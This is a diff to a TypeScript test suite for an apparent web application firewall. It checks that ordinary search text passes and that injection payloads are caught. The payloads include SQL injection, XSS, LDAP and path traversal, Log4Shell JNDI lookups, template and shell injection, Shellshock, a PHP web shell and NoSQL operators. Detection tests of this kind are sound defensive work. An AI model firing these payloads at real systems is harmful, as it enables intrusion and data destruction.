@@ -109,7 +109,7 @@ describe("a plan", () => {
       "free",
       { countries: ["DE"], blockedNetworks: [1], mayDegrade: { rateLimits: true } },
       [
-        "ctm-sql-injection, ctm-other-injection: the plan free holds 5 custom rules, not 7; nearest: some of them merged",
+        "ctm-sql-injection, ctm-sql-call, ctm-other-injection, ctm-code-injection: the plan free holds 5 custom rules, not 9; nearest: some of them merged",
       ],
     ],
     [
@@ -302,6 +302,74 @@ describe("rules", () => {
     }
   });
 
+  /** What people search for, and name tasks: words of SQL, of markup and of shells, in any language. */
+  it.each([
+    "union -- select committee",
+    "European Union select committee",
+    "All in union, select 3",
+    "Offsite - select venue, caterer",
+    "Offsite; select venue from shortlist",
+    "Reviewer (select one from the list)",
+    "Groceries; update agenda set by Tom",
+    "Execute plan B; execute plan C",
+    "L'union européenne et l'ordre du jour",
+    "...лучше поздно, чем никогда",
+    "Ojos que no ven...¡cartera que te limpian!",
+    "電信／通訊系統工程師",
+    "会议纪要，请审阅．．．",
+    "!!!!!!!!!!",
+    "JavaScript: the good parts",
+    "Add sleep(100) to the flaky test",
+    "Benchmark (2024) results",
+    "Parser: case 12 falls through",
+    "Put addresses between '<' and '>'",
+    "information_schema.tables is empty",
+    "user@@example.com is a typo",
+    "order by 3",
+    "../../../src/index.ts does not resolve",
+    "/etc/hosts entry is missing",
+    "&#39; is shown in titles",
+    String.raw`\u00e9 is shown in exports`,
+    'Order 24" and 27" monitors',
+    "`uname` is not portable",
+    "git pull && npm ci",
+  ])("let people search for %j, and name a task so", (text) => {
+    const searches = [
+      `search=${encodeURIComponent(text)}`,
+      String(new URLSearchParams({ search: text })),
+    ];
+    for (const plan of plans) {
+      for (const query of searches) expect(decide(plan, {}, { query }), plan).toBe(null);
+      const task = { title: text, description: text, tags: [text], metadata: { deep: [text] } };
+      expect(decide(plan, {}, json(task)), plan).toBe(null);
+    }
+  });
+
+  it.each([
+    ["foo' OR 'BAR", "ctm-sql-injection"],
+    ["1 and @version < 1", "ctm-sql-injection"],
+    ["1')#x\nUNION#y\nALL#z\nSELECT#w\n1,2,3", "ctm-sql-injection"],
+    ["1;DROP/*x*/TABLE tasks", "ctm-sql-call"],
+    ["1 RLIKE SLEEP/**/(5)", "ctm-sql-call"],
+    ["<details open ontoggle=top.x()>", "ctm-other-injection"],
+    ["*)(uid=*", "ctm-other-injection"],
+    [String.raw`..%c0%afetc`, "ctm-other-injection"],
+    ["${jndi:ldap://192.0.2.1/a}", "ctm-code-injection"],
+    ["${${lower:j}ndi:x}", "ctm-code-injection"],
+    ["{{7*7}}", "ctm-code-injection"],
+    ["x; head /etc/hostname", "ctm-code-injection"],
+    ["() { :;}; /bin/sh -c id", "ctm-code-injection"],
+    ["<?php system($_GET['c']); ?>", "ctm-code-injection"],
+    ['{"$ne": 1}', "ctm-code-injection"],
+  ])("find %j in a parameter and in a header", (payload, ref) => {
+    const query = `search=${encodeURIComponent(payload)}`;
+    const headers = { ...key, referer: encodeURI(payload) };
+    for (const plan of ["business", "enterprise"] as const) {
+      expect(decide(plan, {}, { query }), plan).toBe(ref);
+      expect(decide(plan, {}, { headers }), plan).toBe(ref);
+    }
+  });
+
   it("let an administrator ask in SQL", () => {
     const sql = "SELECT 1 WHERE 1=1 OR 'a'='a' UNION ALL SELECT NULL; -- all of them";
     for (const plan of plans) {
@@ -313,7 +381,8 @@ describe("rules", () => {
   it.each([
     ["quoted", { title: "x' OR '1'='1" }],
     ["escaped", { title: "x" }],
-    ["deep down", { title: "a", metadata: { list: ["1) UNION ALL SELECT NULL,NULL-- "] } }],
+    ["deep down", { title: "a", metadata: { list: ["1') UNION ALL SELECT NULL,NULL-- "] } }],
+    ["between tabs", { title: "1\tor\t1=1" }],
     ["in another field", { title: "a", assigned_to: "admin'--" }],
   ])("find an injection in a body: %s", (what, body) => {
     const request = json(body);
